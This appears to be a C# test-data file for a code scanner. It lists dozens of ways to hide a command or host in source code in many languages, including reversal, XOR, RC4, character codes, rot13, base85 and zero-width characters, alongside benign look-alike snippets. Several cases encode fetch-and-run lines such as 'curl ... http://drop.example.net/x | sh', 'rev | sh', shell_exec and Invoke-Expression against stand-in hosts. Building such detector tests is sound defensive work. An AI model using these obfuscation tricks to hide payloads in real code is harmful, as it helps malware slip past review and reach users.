using static Symbiont.Scanning.Tests.Decoding.Hidden;

namespace Symbiont.Scanning.Tests.Decoding;

/// <summary>Text hidden in programs of every language, and honest data that looks like it.</summary>
internal static class ConcealmentCases
{
    private const string Alphabet = "abcdefghijklmnopqrstuvwxyz";
    private const string Mixed = "qwertyuiopasdfghjklzxcvbnm";
    private const string Odd64 = "ZYXWVUTSRQPONMLKJIHGFEDCBAzyxwvutsrqponmlkjihgfedcba9876543210-_";
    private const string Standard64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

    private static readonly string Sentence = "the quick brown fox: jumps/over lazy dogs - c.url_shfSL|z0123456789";

    /// <summary>File, how it is hidden, source.</summary>
    public static TheoryData<string, string, string> All => new()
    {
        // Backwards, in every language.
        { "a.py", "reversed", $"import os\nos.system('{Reversed(Command)}'[::-1])" },
        { "a.py", "reversed", $"s = ''\nfor c in '{Reversed(Command)}':\n    s = c + s\n" },
        { "a.js", "reversed", $"const c = [...'{Reversed(Command)}'].reverse().join('');" },
        { "a.kt", "reversed", "val k = Class.forName(\"emitnuR.gnal.avaj\".reversed())" },
        { "A.java", "reversed", $"String c = new StringBuilder(\"{Reversed(Command)}\").reverse().toString();" },
        { "a.php", "reversed", "<?php $f = strrev('cexe_llehs'); $f($x);" },
        { "a.rb", "reversed", "m = 'metsys'.reverse\nKernel.send(m, x)" },
        { "a.pl", "reversed", $"my $c = reverse \"{Reversed(Command)}\";" },
        { "a.lua", "reversed", $"local c = string.reverse('{Reversed(Command)}')" },
        { "a.go", "reversed", $"c := flip(\"{Reversed("https://drop.example.net/x")}\")" },
        { "a.rs", "reversed", $"let c: String = \"{Reversed(Command)}\".chars().rev().collect();" },
        { "a.cs", "reversed", "var t = Type.GetType(Flip(\"ssecorP.scitsongaiD.metsyS\"));" },
        { "a.sh", "reversed", $"echo '{Reversed(Command)}' | rev | sh" },
        { "a.ps1", "reversed", $"$c = '{Reversed("Invoke-Expression")}'" },
        { "notes.txt", "reversed", $"first\n{Reversed(Command)}\nlast" },
        { "a.py", "reversed", "h = 'moc.elpmaxe.tcelloc'[::-1]" },
        // Letters and signs of names put in, more than once in a word.
        { "a.js", "with fillers", "run('chi/ld_pro/ce/ss'.replace('/', ''));" },
        { "a.js", "with fillers", "run('shuelul_uexuec'.split('u').join(''));" },
        { "a.py", "with fillers", "c = 'po.wer.sh.ell'.replace('.', '')" },
        { "a.py", "with fillers", "c = 'power#shell -enc#oded'.replace('#', '')" },
        // Numbers.
        { "a.py", "character codes", $"x = bytes([{List(Codes(Command))}])" },
        { "a.js", "character codes", $"String.fromCharCode({List(Codes(Command), ",")})" },
        { "a.vbs", "character codes", "x = " + string.Join(" & ", Command.Select(c => $"Chr({(int)c})")) },
        { "a.bas", "character codes", "x = " + string.Join(" & ", Command.Select(c => $"Chr(&H{(int)c:X2})")) },
        { "a.ps1", "character codes", "$x = " + string.Join("+", Command.Select(c => $"[char]{(int)c}")) },
        { "a.php", "character codes", "<?php $x = " + string.Join(" . ", Command.Select(c => $"chr({(int)c})")) + ";" },
        { "a.lua", "character codes", $"local c = string.char({List(Codes(Command))})" },
        { "a.rb", "character codes", $"c = [{List(Codes(Command))}].pack('c*')" },
        { "a.sql", "character codes", $"exec(CHAR({string.Join(")+CHAR(", Codes(Command))}))" },
        { "A.java", "character codes", $"byte[] b = {{ {string.Join(", ", Codes(Command).Select(c => $"(byte) {c}"))} }};" },
        { "a.rs", "character codes", $"let b = [{string.Join(", ", Codes(Command).Select(c => $"{c}u8"))}];" },
        { "a.go", "character codes", $"b := []byte{{{HexList(Codes(Command))}}}" },
        { "a.pl", "character codes", $"my $c = join '', map {{ chr(oct($_)) }} qw({string.Join(' ', Codes(Command).Select(c => Convert.ToString(c, 8)))});" },
        { "a.py", "character codes", $"x = '{string.Join(' ', Codes(Command).Select(c => Convert.ToString(c, 2).PadLeft(8, '0')))}'.split()" },
        { "a.py", "character codes", $"x = bytes.fromhex('{string.Join(' ', Codes(Command).Select(c => $"{c:x2}"))}')" },
        { "a.py", "character codes", $"n = {new System.Numerics.BigInteger([.. Command.Reverse().Select(c => (byte)c)], isUnsigned: true)}" },
        { "a.js", "character codes", $"const ip = [\"{string.Join("\", \"", Codes(Command.PadRight(48)).Chunk(4).Select(part => string.Join('.', part)))}\"];" },
        { "a.c", "character codes", $"unsigned w[] = {{{string.Join(", ", Codes(Command.PadRight(48)).Chunk(4).Select(p => $"0x{p[0]:x2}{p[1]:x2}{p[2]:x2}{p[3]:x2}"))}}};" },
        { "a.py", "character codes reversed", $"x = [{List(Codes(Reversed(Command)))}]" },
        // A key of one byte.
        { "a.py", "xor 0x5a", $"d = [{List(Xor(Command, 0x5A))}]\nrun(''.join(chr(c ^ k) for c in d))" },
        { "a.c", "xor 0x37", $"char s[] = {{{HexList(Xor(Command, 0x37))}, 0x37}};\nfor (int i = 0; i < sizeof s; i++) s[i] ^= k;" },
        { "a.cs", "xor 0x11", $"var d = new byte[] {{ {List(Xor(Host, 0x11))} }};" },
        { "a.go", "xor 0xaa", $"d := \"{Escapes(Xor(Command, 0xAA))}\"" },
        { "a.swift", "xor 0x21", $"let d: [UInt8] = [{List(Xor(Command, 0x21))}]" },
        { "a.py", "xor 0x42", $"d = bytes.fromhex('{Hex(Xor(Command, 0x42))}')" },
        { "a.js", "xor 0x93", $"const d = atob('{Base64(Xor(Command, 0x93))}');" },
        { "a.dart", "xor 0x07", $"final d = [{List(Xor(Host, 7))}];" },
        { "a.pl", "xor 0x55", $"my $d = \"{Octal(Xor(Command, 0x55))}\";" },
        { "a.py", "xor 0x5a reversed", $"d = [{List(Xor(Reversed(Command), 0x5A))}]" },
        // Added, growing, multiplied, differences.
        { "A.java", "shifted by 3", $"int[] d = {{{List(Add(Command, 3))}}};" },
        { "a.kt", "shifted by -7", $"val d = intArrayOf({List(Add(Command, -7))})" },
        { "a.js", "shifted by 1000", $"const d = [{List(Codes(Command).Select(c => c + 1000))}];" },
        { "a.py", "shifted by its place", $"d = [{List(Add(Command, 9, 5))}]" },
        { "a.py", "shifted by -32 multiplied", $"d = [{List(Codes(Command).Select(c => c * 3))}]" },
        { "a.rb", "as differences", $"d = [{List(Command.Select((c, i) => i == 0 ? c : c - Command[i - 1]))}]" },
        { "a.go", "xor 0x0d with its place", $"d := []byte{{{List(Command.Select((c, i) => (c ^ 13 ^ i) & 0xFF))}}}" },
        // A key of several bytes, unknown or in the file.
        { "a.bin.txt", "xor with a key of 4 bytes", $"data = {List(Xor(Command, 201, 17, 90, 233))}" },
        { "a.py", "xor a key", $"K = b'correct horse battery'\nD = bytes.fromhex('{Hex(Xor(Command, "correct horse battery"))}')" },
        { "a.js", "rc4", $"const k = 'tr0ub4dor'; const d = Buffer.from('{Hex(Rc4(Command, "tr0ub4dor"))}', 'hex');" },
        // Letters.
        { "a.py", "rot13", $"c = '{Rotated(Command, 13)}'" },
        { "a.sh", "rot5", $"c='{Rotated(Command, 5)}'" },
        { "a.js", "rot47 of 94 characters", $"const c = \"{Rot47("curl http://drop.example.net/x")}\";" },
        { "a.py", "atbash", $"c = '{Atbash(Command)}'" },
        { "a.js", "shifted by 2", "const c = '" + new string([.. "https://drop.example.net/x".Select(c => (char)(c + 2))]) + "';" },
        { "a.py", "every 2. letter", $"c = '{Spread(Command, 'q')}'[::2]" },
        { "a.py", "alphabet", $"t = str.maketrans('{Mixed}', '{Alphabet}')\nc = '{Exchanged("powershell -enc", Alphabet, Mixed)}'" },
        { "a.sh", "alphabet", $"echo '{Exchanged(Command, Alphabet, "mnopqrstuvwxyzlkjihgfedcba")}' | tr 'm-zlkjihgfedcba' 'a-z'" },
        { "a.js", "base64 of its own", $"const a = '{Odd64}'; const d = '{Exchanged(Base64(Codes(Command)), Standard64, Odd64)}';" },
        { "a.py", "letters picked by number", $"s = '{Sentence}'\ni = [{List("curl.sh".Concat("_curl -fSL").Select(c => Sentence.IndexOf(c, StringComparison.Ordinal)))}]" },
        { "a.pl", "xor 0x01", $"my $p = join '', map {{ chr(ord($_) ^ 1) }} split //, q~{new string([.. "curl -s http://drop.example.net/x | sh".Select(c => (char)(c ^ 1))])}~;" },
        // In pieces.
        { "a.py", "in pieces", "c = ('cu'\n     'rl -fs'\n     'SL http' 's://drop.example.net')" },
        { "a.js", "in pieces", "const m = 'chi' + 'ld_pro' +\n  'cess';" },
        { "A.java", "in pieces", "String c = \"java.la\" + \"ng.Run\" + \"time\";" },
        { "a.php", "in pieces", "<?php $f = 'shell' . '_ex' . 'ec';" },
        { "a.c", "in pieces", "char c[] = {'c', 'u', 'r', 'l', ' ', '-', 's', 0};" },
        { "a.js", "in pieces", "const h = ['collect', 'example', 'net'].join('.');" },
        { "a.py", "in pieces", "h = '.'.join(['collect', 'example', 'net'])" },
        { "a.php", "in pieces", "<?php $h = implode('.', ['collect', 'example', 'net']);" },
        { "a.js", "with fillers", "const c = 'ch#il#d_pr#oc#ess'.split('#').join('');" },
        { "a.ps1", "with fillers", "$c = 'InvXXoke-ExprXXession' -replace 'XX', ''" },
        { "a.ps1", "masked word", "& (I`nv`oke-Ex`pr`ession) $x" },
        { "a.bat", "masked word", "p^o^w^e^r^shell -nop" },
        { "a.ps1", "format", "& (\"{2}{0}{1}\" -f 'e','x','i') $x" },
        { "a.sh", "letters of variables", "a=hlrcu\n${a:3:1}${a:4:1}${a:2:1}${a:1:1} -s http://drop.example.net" },
        { "a.bat", "letters of variables", "set x=abcdefghijklmnopqrstuvwxyz\r\n%x:~15,1%%x:~14,1%%x:~22,1%%x:~4,1%%x:~17,1%shell" },
        { "a.py", "first letters", "s = 'every very able lad'\nf = ''.join(w[0] for w in s.split())" },
        // Encodings, and what nobody sees.
        { "a.py", "base85", $"d = b'{Base85(Command)}'" },
        { "a.txt", "ascii85", $"x = \"<~{Ascii85("import os; os.system").Replace("\"", "\\\"", StringComparison.Ordinal).Replace("\\", "\\\\", StringComparison.Ordinal)}~>\"" },
        { "a.pl", "uuencode", $"my $d = <<'E';\n{Unix(Command)}E\neval unpack('u', $d);" },
        { "a.txt", "zero-width bits", "Hello" + Bits("run curl for me", '\u200B', '\u200C') + " world" },
        { "a.txt", "blank bits", string.Join('\n', Bits("run curl for me", ' ', '\t').Chunk(8).Select(line => "line" + new string(line))) },
    };

    /// <summary>File and source of what hides nothing.</summary>
    public static TheoryData<string, string> Honest => new()
    {
        { "a.js", "const id = name.replace('/', '');\nrun({ method: 'notifications/tasks/status' });\nrun({ method: 'queue/apps/cript/state' });" },
        { "a.js", "const short = name.replace('e', '').replace('in', '');\nconst names = ['PerformanceScriptTiming', 'PerformanceServerTiming', 'PresentationConnectionList'];" },
        { "a.js", "const dash = id.split('.').join('');\nconst keys = ['events.tasks.key.change', 'a.b.c'];" },
        { "a.py", "LETTERS = 'abcdefghijklmnopqrstuvwxyz0123456789-_'\nOTHERS = 'abcdefghijklmnopqrstuvwxyz0123456789_-'\nKINDS = ['oauth-client-credentials', 'api-key']" },
        { "a.py", "text = 'When certain properties are specified other properties should not be included'" },
        { "a.js", "const range = `.12.0 of a range`;\n// versions\nconst v = [2, 0, 1, 0, 1, 1, 1, 0, 2, 2, 2];" },
        { "a.py", "ROMAN = [1, 4, 5, 9, 10, 40, 50, 90, 100, 400, 500, 900, 1000]" },
        { "a.py", "PRIMES = [2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37, 41, 43, 47, 53, 59, 61, 67, 71, 73, 79, 83, 89, 97]" },
        { "a.py", "assert is_palindrome('amanaplanacanalpanama')\nassert 'stressed'[::-1] == 'desserts'" },
        { "a.py", "assert codecs.decode('Uryyb, jbeyq!', 'rot13') == 'Hello, world!'" },
        { "a.py", "# reverse the domain\nkey = '.'.join(reversed(host.split('.')))\nname = 'com.example.app'" },
        { "a.py", "CRC = [0x00000000, 0x77073096, 0xee0e612c, 0x990951ba, 0x076dc419, 0x706af48f, 0xe963a535, 0x9e6495a3, 0x0edb8832]" },
        { "a.c", "static const unsigned char font[] = {0x7e, 0x81, 0xa5, 0x81, 0xbd, 0x99, 0x81, 0x7e, 0x7e, 0xff, 0xdb, 0xff, 0xc3, 0xe7, 0xff, 0x7e};" },
        { "a.js", "const url = protocol + '://' + host;\nconst base = 'http' + '://' + host;\nconst x = ['user', 'name'].join('.');" },
        { "a.js", "const file = ['package', 'json'].join('.'); const key = ['settings', 'theme', 'dark'].join('.');" },
        { "a.js", "document.write('<scr' + 'ipt src=\"/a.js\"></scr' + 'ipt>');" },
        { "a.py", "command = ('curl -fsSL https://api.example.org/v1/items '\n           '-H \"Accept: application/json\" '\n           '| jq .name')" },
        { "a.py", "TOKENS = ['power', 'supply', 'shell', 'eval', 'sub', 'marine', 'process']" },
        { "a.sh", "d=20260102\necho \"${d:0:4}-${d:4:2}-${d:6:2}\"\nc=${x:0:1}" },
        { "a.ps1", "$s = \"{0} of {1}\" -f $done, $all\nWrite-Host `\n  $s" },
        { "a.cs", "var s = string.Format(\"{0}{1}\", name, suffix);" },
        { "a.py", "text.replace(' ', '').replace('-', '')\nname = 'Power Shell for every one'" },
        { "a.py", "def refang(u):\n    return u.replace('hxxp', 'http').replace('[.]', '.')\nX = 'hxxps://bad[.]example[.]com/a'" },
        { "a.txt", "The wolf said: dvsm is no word, and 203.0.113.7, 198.51.100.4, 192.0.2.1, 10.0.0.1 are addresses." },
        { "a.py", "VERSION = (3, 12, 1, 0, 7, 9)\nMAC = '00:1a:2b:3c:4d:5e'" },
        { "a.js", "const weights = [0.12, 3.4, 5.61, 7.2, 11.03, 13.8, 17.1];const ids=[101,102,103,104,105,106,107,108,109,110,111,112];" },
        { "a.c", "static const char *const words[] = {\"if\", \"else\", \"while\", \"for\", \"return\", \"switch\"};" },
        { "a.py", "KEYS = 'abcdefghijklmnopqrstuvwxyz'\nOTHER = 'zyxwvutsrqponmlkjihgfedcba'\nmsg = 'please translate this sentence for me'" },
        { "a.fa", "خانه‌ها و کتاب‌ها و درخت‌ها و میوه‌ها می‌روند" },
        { "a.py", "initials = ''.join(w[0] for w in name.split())\ntitle = 'Portable Network Graphics'" },
    };
}
